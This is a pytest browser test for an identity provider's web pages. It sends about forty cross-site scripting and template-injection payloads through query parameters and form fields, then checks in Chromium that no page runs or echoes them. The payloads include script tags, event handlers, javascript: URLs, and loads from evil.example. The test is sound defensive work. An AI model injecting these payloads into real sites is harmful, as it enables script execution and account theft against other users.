"""Markup in whatever is typed or brought along stays text, as real Chromium reads the pages."""

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http import HTTPStatus

import pytest
from flask import Flask
from playwright.sync_api import Browser, Dialog, Page, Route
from werkzeug.test import TestResponse

from idp.web.stance import ATTRIBUTE
from tests.pages.test_bad_input import FIELDS
from tests.visitor import BASE, Visitor

pytestmark = pytest.mark.browser
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "x onfocus=alert(1) autofocus ",
    "<details open ontoggle=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>x",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template><video><source onerror=alert(1)></video>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}{% for x in (1,) %}alert{% endfor %}",
    "{{ config }}${alert(1)}#{alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u02ba><\u017fcript>alert(1)</\u017fcript>",
)
BROUGHT = (
    *("client_id", "redirect_uri", "state", "scope", "prompt", "claims", "ui_locales", "login_hint", "lang"),
    *("error", "error_description", "error_hint", "journey", "step", "next", "message", "request_uri", "token"),
)


@dataclass(frozen=True)
class Answer:
    """A page to look at: where it came from, and the answer."""

    what: str
    response: TestResponse


def addresses(app: Flask, method: str) -> Iterator[str]:
    """List the addresses of a landlord that take a method and answer with pages."""
    for rule in app.url_map.iter_rules():
        stance = getattr(app.view_functions[rule.endpoint], ATTRIBUTE, None)
        if stance is None or not stance.landlord or rule.arguments or not stance.browser:
            continue
        if method in (rule.methods or ()):
            yield rule.rule


def spread(names: tuple[str, ...], start: int) -> dict[str, str]:
    """Give each name another payload, beginning at one of them."""
    return {name: PAYLOADS[(start + number) % len(PAYLOADS)] for number, name in enumerate(names)}


def answers(app: Flask) -> Iterator[Answer]:
    """Send every payload to every page: some in its query, some in its form, each under another name in turn."""
    for path in addresses(app, "GET"):
        for start in range(0, len(PAYLOADS), len(BROUGHT)):
            visitor = Visitor(app)
            response = visitor.client.get(f"/paris{path}", base_url=BASE, query_string=spread(BROUGHT, start))
            yield Answer(f"GET {path} {start}", response)
    for path in addresses(app, "POST"):
        for start in range(0, len(PAYLOADS), len(FIELDS)):
            visitor = Visitor(app)
            visitor.get("/sign-in")
            yield Answer(f"POST {path} {start}", visitor.submit(path, **spread(FIELDS, start)))


def shown(answers: dict[str, TestResponse]) -> Callable[[Route], None]:
    """Answer the browser with what the provider answered, headers included, and ask nobody else."""

    def handle(route: Route) -> None:
        found = answers.get(route.request.url.removeprefix(f"{BASE}/"))
        if found is None:
            route.fulfill(status=404, body="")
        else:
            route.fulfill(status=found.status_code, body=found.data, headers=dict(found.headers))

    return handle


def look(page: Page, app: Flask) -> tuple[int, list[str]]:
    """Open every answer that is a page; return how many there were, and what should not have happened."""
    wrong: list[str] = []
    pages: dict[str, TestResponse] = {}

    def noted(dialog: Dialog) -> None:
        wrong.append(f"{page.url}: a dialog")
        dialog.dismiss()

    page.on("dialog", noted)
    page.on("request", lambda asked: wrong.extend([f"{page.url}: {asked.url}"] if "evil" in asked.url else []))
    page.route("**/*", shown(pages))
    for number, answer in enumerate(answers(app)):
        if answer.response.mimetype != "text/html" or answer.response.status_code == HTTPStatus.SEE_OTHER:
            continue
        raw = [payload for payload in PAYLOADS if re.search("[<\"']", payload) and payload in answer.response.text]
        wrong += [f"{answer.what}: repeats {payload}" for payload in raw]
        pages[str(number)] = answer.response
        page.goto(f"{BASE}/{number}")
    return len(pages), wrong


@pytest.mark.threat("T-35")
def test_no_page_runs_or_repeats_what_it_was_sent(app: Flask, browser: Browser) -> None:
    assert len(PAYLOADS) >= 40
    context = browser.new_context()
    count, wrong = look(context.new_page(), app)
    context.close()
    assert count > 80
    assert wrong == []
